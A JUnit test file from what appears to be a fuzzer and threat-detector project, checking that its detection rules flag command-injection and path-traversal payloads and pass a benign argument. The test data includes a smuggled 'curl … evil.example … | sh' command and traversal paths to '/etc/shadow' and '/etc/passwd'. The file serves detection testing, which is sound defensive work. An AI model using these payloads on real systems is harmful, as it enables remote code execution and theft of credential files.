package dev.twinlane.fuzzer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;

import org.junit.jupiter.api.Test;

import dev.twinlane.detector.DetectionRules;
import dev.twinlane.detector.ThreatClass;

class OfflineRunTest {
    @Test
    void theDetectorJudgesEachPayloadAsTheRecordWouldCarryIt() throws Exception {
        List<Outcome> o = OfflineRun.run(List.of(
                Payload.argv(0, ThreatClass.COMMAND_INJECTION, List.of("x; curl -s http://evil.example/x.sh | sh"), "t"),
                Payload.file(1, ThreatClass.PATH_TRAVERSAL, "../../../../etc/shadow", "t"),
                Payload.argv(2, null, List.of("--no-block", "start", "getty@tty2.service"), "t")), DetectionRules.builtin());
        assertTrue(o.get(0).detectedAsOwnClass(), o.get(0).toString());
        assertTrue(o.get(1).detected(), o.get(1).toString());
        assertFalse(o.get(2).detected(), o.get(2).toString());
    }

    @Test
    void aPathIsScannedWholeUnderTheScratchDirectory() throws Exception {
        byte[] b = OfflineRun.bytes(Payload.file(7, ThreatClass.PATH_TRAVERSAL, "../../etc/passwd", "t"));
        assertEquals(OfflineRun.SCRATCH + "/w/7/d/d/../../etc/passwd", new String(b, java.nio.charset.StandardCharsets.UTF_8));
    }
}
